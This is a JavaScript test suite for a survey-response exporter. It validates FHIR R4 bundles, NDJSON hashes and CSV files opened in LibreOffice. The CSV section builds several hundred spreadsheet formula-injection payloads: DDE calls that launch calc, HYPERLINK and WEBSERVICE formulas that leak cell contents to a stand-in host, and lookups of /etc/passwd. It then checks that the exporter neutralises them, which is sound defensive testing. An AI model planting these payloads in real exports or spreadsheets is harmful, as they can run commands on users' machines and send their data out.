// What other programs make of responses: FHIR bundles by HL7's schema, CSV in LibreOffice, lines of JSON by our own checks of
// exports. Every one of them is proved to be able to fail.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { describe, test } from "node:test";

import { bundle_faults, schema_faults, schema_version } from "../formats/fhir_schema.mjs";
import { opened_csv } from "../formats/spreadsheet.mjs";
import { read_json, repository } from "./packs.mjs";
import { canonical_json, response_hash } from "./validate_export.mjs";

const count = 1500;

function probe(words, input = "") {
  const program = `${repository}build/native-release/earshot_formats_probe`;
  const { status, stdout, stderr } = spawnSync(program, words, { input, maxBuffer: 1 << 30 });
  assert.equal(status, 0, `${words[0]}: ${stderr}`);
  return stdout.toString();
}

const lines_of = (text) => text.split("\n").slice(0, -1);
const set = (object, changes) => Object.assign(object, changes);
const first = (bundle, type) => bundle.entry.find(({ resource }) => resource.resourceType === type).resource;
const item_with = (items, fits) => items.flatMap((item) => [item, ...(item.item ?? [])]).find(fits);

// ------------------------------------------------------------------------------------------------- FHIR

describe("FHIR", () => {
  const text = probe(["fhir", "1", String(count)]);
  const bundle = JSON.parse(text);
  const small = JSON.parse(probe(["fhir", "1", "12"]));
  const canonical = lines_of(probe(["ndjson", "1", String(count)])).map((line) => {
    const { hash, ...said } = JSON.parse(line);
    return canonical_json(said);
  });

  test(`${count} random responses are valid FHIR R4`, () => {
    assert.equal(schema_version, "4.0");
    assert.deepEqual(bundle_faults(bundle, { contradictory: true }), []);
    const responses = bundle.entry.filter(({ resource }) => resource.resourceType === "QuestionnaireResponse");
    assert.equal(responses.length, count);
  });

  test("the golden is valid, and its questionnaire has every item", () => {
    assert.deepEqual(bundle_faults(read_json(`${repository}tests/goldens/fhir.json`)), []);
  });

  test("a whole bundle is valid, its entries in it, and so is an empty one", () => {
    assert.deepEqual(schema_faults(small), []);
    assert.deepEqual(bundle_faults(small, { contradictory: true }), []);
    assert.deepEqual(bundle_faults(JSON.parse(probe(["fhir", "1", "0"]))), []);
  });

  test(`${count} random responses come back to the byte`, () => {
    assert.deepEqual(lines_of(probe(["back", "fhir"], text)), canonical);
  });

  test("the order of members and white space do not matter on the way back", () => {
    const turned = (value) =>
      Array.isArray(value) ? value.map(turned)
        : typeof value === "object" ? Object.fromEntries(Object.entries(value).reverse().map(([key, part]) => [key, turned(part)]))
          : value;
    const again = JSON.stringify({ ...turned(bundle), entry: turned(bundle).entry });
    assert.deepEqual(lines_of(probe(["back", "fhir"], again)), canonical);
  });

  const breaks = {
    "a status that does not exist": (b) => set(first(b, "QuestionnaireResponse"), { status: "done" }),
    "a day that is none": (b) => set(first(b, "QuestionnaireResponse"), { authored: "yesterday" }),
    "a time of day": (b) => set(first(b, "QuestionnaireResponse"), { authored: "2026-11-23T10:00:00Z" }),
    "a subject": (b) => set(first(b, "QuestionnaireResponse"), { subject: { reference: "Patient/1" } }),
    "a member that does not exist": (b) => set(first(b, "QuestionnaireResponse"), { drawing: "x" }),
    "a null": (b) => set(first(b, "QuestionnaireResponse"), { language: null }),
    "an id with a space": (b) => set(first(b, "Questionnaire"), { id: "a b" }),
    "an item of a type that does not exist": (b) => set(first(b, "Questionnaire").item[0], { type: "faces" }),
    "a linkId twice": (b) => set(first(b, "Questionnaire").item[1], { linkId: "about" }),
    "an answer of a kind that does not exist": (b) => set(first(b, "QuestionnaireResponse").item[1], { answer: [{ valueMarks: [] }] }),
    "an empty list": (b) => set(first(b, "QuestionnaireResponse").item[1], { answer: [] }),
    "a label with odd white space": (b) => set(first(b, "QuestionnaireResponse").item[1], { answer: [{ valueCoding: { code: "a", display: "a\u2028b" } }] }),
    "a text with a control character": (b) => set(first(b, "QuestionnaireResponse").item[1], { text: "a\u0001b" }),
    "a question that is not in its questionnaire": (b) => set(first(b, "QuestionnaireResponse").item[1], { linkId: "q.unknown" }),
    "one response twice": (b) => b.entry.push(structuredClone(b.entry[0])),
    "no questionnaires": (b) => set(b, { entry: b.entry.filter(({ resource }) => resource.resourceType !== "Questionnaire") }),
    "another kind of bundle": (b) => set(b, { type: "pile" }),
  };
  for (const [name, change] of Object.entries(breaks)) {
    test(`these checks find ${name}`, () => {
      const broken = structuredClone(small);
      change(broken);
      assert.notDeepEqual(bundle_faults(broken, { contradictory: true }), []);
    });
  }

  test("every kind and state is among the random responses", () => {
    for (const word of ["faces", "agree", "choose_one", "choose_some", "put_in_order", "free_text", "drawing",
      "asked-declined", "asked-unknown", "not-asked", "urn:earshot:fhir:exact", "urn:earshot:fhir:flag"]) {
      assert.ok(text.includes(`"${word}"`), word);
    }
    assert.ok(item_with(first(bundle, "QuestionnaireResponse").item, ({ answer }) => answer));
  });
});

// ------------------------------------------------------------------------------------------------- lines of JSON

describe("lines of JSON", () => {
  test("each proves itself by its hash, and all come back", () => {
    const text = probe(["ndjson", "1", String(count)]), lines = lines_of(text);
    assert.equal(lines.length, count);
    const wanted = lines.map((line) => {
      const { hash, ...said } = JSON.parse(line);
      assert.equal(response_hash(said), hash);
      assert.equal(canonical_json({ ...said, hash }), line);
      return canonical_json(said);
    });
    assert.deepEqual(lines_of(probe(["back", "ndjson"], text)), wanted);
  });
});

// ------------------------------------------------------------------------------------------------- spreadsheets

const formulas = [
  "=1+1", "=2*3", "=A1", "=SUM(1;2)", "=SUM(1,2)", "==1", "=-1", '="a"&"b"', "=NOW()", "=RAND()", "={1;2}", "=1/0",
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"click")', '=HYPERLINK("http://x.invalid/?"&A1;"click")',
  '=WEBSERVICE("http://x.invalid/"&A1)', '=DDE("soffice";"/etc/passwd";"A1")', "=file:///etc/passwd#$passwd.A1",
  "+1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1",
  "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1",
];
// Also where a line, or another separator, could begin a cell.
const before = ["", " ", "   ", '"', "'", ' "', "\t", "\n", "\r\n", "\r", "\0", "\u200b", "\u202e", "\ufeff", "\u00a0",
  "\u3000", "\u201c", "Hi\n", "Hi\n\n ", 'Hi"\n', "Hi;", 'Hi";"', "Hi\t", 'Hi",'];
const payloads = before.flatMap((start) => formulas.map((formula) => start + formula));

// eslint-disable-next-line no-control-regex
const visible = (text) => text.replace(/[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/g, "");
const harmless = (text) => text.replace(/(^|[\t\n;])'(?=[\s"'\u2018-\u201f]*[=+\-@\uff1d\uff0b\uff0d\uff20])|^'(?=[ "'\u00a0\u3000\u2018-\u201f]*[\t\n])/g, "$1");
const formulas_in = (rows) => rows.flat().filter(({ formula }) => formula);
const said = (format) => probe(["said", format], payloads.map((text) => `${Buffer.from(text).toString("base64")}\n`).join(""));
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
const bare = () => `"id","text"\r\n${payloads.map((text, i) => `"${i}",${quoted(text)}\r\n`).join("")}`;

describe("CSV in LibreOffice", () => {
  test("there are at least 500 payloads", () => assert.ok(new Set(payloads).size >= 500, String(new Set(payloads).size)));

  test("without our care they are carried out: these tests can fail", async () => {
    const commas = formulas_in(await opened_csv(bare())), semicolons = formulas_in(await opened_csv(bare(), ";"));
    console.log(`# ${commas.length} and ${semicolons.length} of ${payloads.length} payloads are carried out`);
    assert.ok(commas.length >= 15, `only ${commas.length} of them`);
    assert.ok(semicolons.length >= 15, `only ${semicolons.length} of them`);
  });

  for (const format of ["long", "wide"]) {
    for (const [name, separator] of [["semicolons", ";"], ["tabs", "\t"]]) {
      test(`${format}: none is carried out when the file is taken to have ${name}`, async () => {
        assert.deepEqual(formulas_in(await opened_csv(said(format), separator)), []);
      });
    }
  }

  test("long: none is carried out, and every text is what was said but for what can't be seen", async () => {
    const [head, ...rows] = await opened_csv(said("long"));
    assert.deepEqual(formulas_in(rows), []);
    const column = (row, name) => row[head.findIndex(({ text }) => text === name)].text;
    assert.equal(rows.length, 3 * payloads.length);
    payloads.forEach((payload, i) => {
      const [text, one, some] = rows.slice(3 * i, 3 * i + 3), wanted = visible(payload);
      for (const cell of [column(text, "text"), column(text, "asked"), column(one, "label"), column(some, "label"), column(some, "role_label")]) {
        assert.equal(harmless(cell), wanted, JSON.stringify(payload));
      }
    });
  });

  test("wide: none is carried out, and every text is what was said but for what can't be seen", async () => {
    const [head, ...rows] = await opened_csv(said("wide"));
    assert.deepEqual(formulas_in(rows), []);
    assert.equal(rows.length, payloads.length);
    payloads.forEach((payload, i) => {
      for (const name of ["q.text.text", "q.one.label", "q.some.labels", "area_label"]) {
        const { text } = rows[i][head.findIndex((cell) => cell.text === name)];
        assert.equal(harmless(text), visible(payload), JSON.stringify(payload));
      }
    });
  });
});
